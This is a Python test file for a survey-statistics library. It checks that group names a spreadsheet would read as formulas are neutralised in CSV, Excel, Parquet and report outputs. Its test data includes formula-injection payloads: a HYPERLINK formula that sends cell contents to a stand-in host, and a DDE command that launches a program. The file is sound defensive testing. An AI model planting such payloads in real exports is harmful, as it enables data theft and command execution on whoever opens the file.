"""A group whose name a spreadsheet takes for a formula is harmless at every exit, the library's and polars' own."""

import csv
import html
import io
import re
import zipfile
from dataclasses import replace

import polars as pl
import pytest
from cells import without_notebooks

from culture_metrics import (
    check_pair,
    distributions,
    estimate,
    read_extract,
    read_published,
    save_results,
    study,
    synthetic,
    validate,
)
from culture_metrics.contract import as_organisations
from culture_metrics.errors import ReportError, ResultsError, UnknownNameError
from culture_metrics.published import write_published
from culture_metrics.reporting import report as module
from culture_metrics.reporting.report import report
from culture_metrics.study.example import example_published

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Wards")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    " \N{SMALL PLUS SIGN}1",
    "\r=1+1",
    "Ward 7",
]
#: Reading strips white space: a tab and a carriage return before a name leave one name.
NAMES = {name.strip() for name in HOSTILE}


@pytest.fixture(scope="module")
def file(tmp_path_factory):
    made = synthetic.respondents(2024, respondents_per_organisation=350)
    names = pl.Series("locality_1", (HOSTILE * 50)[:350])
    path = tmp_path_factory.mktemp("hostile") / "RXX_2024.csv"
    made.frame.with_columns(names).write_csv(path)
    return path


@pytest.fixture(scope="module")
def checked(file):
    return validate(read_extract(file, year=2024))


@pytest.fixture(scope="module")
def results(checked):
    return estimate(checked.extract, by=["locality_1", ("locality_1", "gender")]).table


def harmless(cells):
    return not [cell for cell in cells if re.match(r"\s*[=+\-@|%\t\r\uff1d\ufe62]", cell)]


def of_csv(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def cells_of(path):
    with zipfile.ZipFile(path) as book:
        parts = {name: book.read(name).decode("utf-8", "replace") for name in book.namelist()}
    assert not [name for name, text in parts.items() if "<f>" in text or "<f " in text]
    return re.findall(r"<t[^>]*>([^<]*)</t>", parts.get("xl/sharedStrings.xml", ""))


def test_the_door_makes_names_plain_and_says_so(checked):
    groups = checked.extract.frame["locality_1"].unique()
    assert groups.len() == len(NAMES)  # none was merged with another
    assert harmless(groups)
    said = checked.problems.filter(rule="names that a spreadsheet takes for formulas")
    assert said["found"].item().endswith("in locality_1")
    assert "HYPERLINK" not in said["found"].item()
    again = validate(checked.extract)
    assert again.extract.frame["locality_1"].equals(checked.extract.frame["locality_1"])


def test_polars_own_exits_are_harmless(results, tmp_path):
    assert results["group"].str.contains("HYPERLINK").any()
    assert harmless(of_csv(results.write_csv()))
    results.write_excel(tmp_path / "r.xlsx")
    assert any("HYPERLINK" in cell for cell in cells_of(tmp_path / "r.xlsx"))
    assert harmless(of_csv(distributions(joined_on(), by=["own"]).table.write_csv()))


def joined_on():
    """Return an extract with a column of groups joined on."""
    made = synthetic.respondents(2024, respondents_per_organisation=350)
    return replace(made, frame=made.frame.with_columns(pl.Series("own", (HOSTILE * 50)[:350])))


def test_a_column_joined_on_is_made_plain_with_and_without_the_check():
    extract = joined_on()
    for own in (extract, validate(extract).extract):
        groups = estimate(own, by=["own"]).table.filter(breakdown="own")["group"].unique()
        assert groups.len() == len(HOSTILE)
        assert harmless(groups)


@pytest.mark.parametrize("ending", [".csv", ".xlsx", ".parquet"])
def test_saved_results_are_harmless_and_pooled(results, tmp_path, ending):
    path = save_results(results, tmp_path / f"results{ending}")
    if ending == ".csv":
        text = path.read_text(encoding="utf-8-sig")
        assert harmless(of_csv(text))
        assert "with fewer than 11 people, or that would give those away" in text
    elif ending == ".xlsx":
        assert any("HYPERLINK" in cell for cell in cells_of(path))
    else:
        assert harmless(pl.read_parquet(path)["group"])


def test_what_may_not_leave_is_not_saved(results, tmp_path):
    open_ = results.with_columns(
        pl.when(pl.col("base").is_not_null()).then(pl.lit(4, pl.UInt32)).alias("base")
    )
    with pytest.raises(ResultsError, match="fewer than 10"):
        save_results(open_, tmp_path / "r.csv")
    with pytest.raises(ResultsError):
        save_results(results.drop("status"), tmp_path / "r.csv")
    with pytest.raises(UnknownNameError, match="ending"):
        save_results(results, tmp_path / "r.doc")
    with pytest.raises(ReportError, match="could not be written"):
        save_results(results, tmp_path / "none" / "r.csv")
    assert not list(tmp_path.iterdir())


def test_the_files_of_a_report_are_harmless(file, tmp_path, monkeypatch):
    without_notebooks(monkeypatch, module)
    report([file], tmp_path, by=["locality_1"])
    assert any("HYPERLINK" in cell for cell in cells_of(tmp_path / "results.xlsx"))
    assert harmless(pl.read_parquet(tmp_path / "results.parquet")["group"])
    assert harmless(of_csv(study([file], by=["locality_1"]).results.table.write_csv()))


def test_the_files_of_the_checks_are_harmless(checked, tmp_path):
    checked.to_excel(tmp_path / "check.xlsx")
    other = replace(checked.extract, period="2023")
    check_pair(other, checked).to_excel(tmp_path / "pair.xlsx")
    for name in ("check.xlsx", "pair.xlsx"):
        assert harmless(html.unescape(cell) for cell in cells_of(tmp_path / name))


def test_names_in_published_files_are_made_plain(tmp_path):
    published = example_published(
        validate(synthetic.respondents(2024, respondents_per_organisation=300)).extract
    )
    named = published.organisations.with_columns(name=pl.lit("=1+1"))
    path = tmp_path / "official 2024.xlsx"
    write_published(path, replace(published, organisations=as_organisations(named)))
    read = read_published(path)
    assert read.organisations["name"].unique().to_list() == ["'=1+1"]
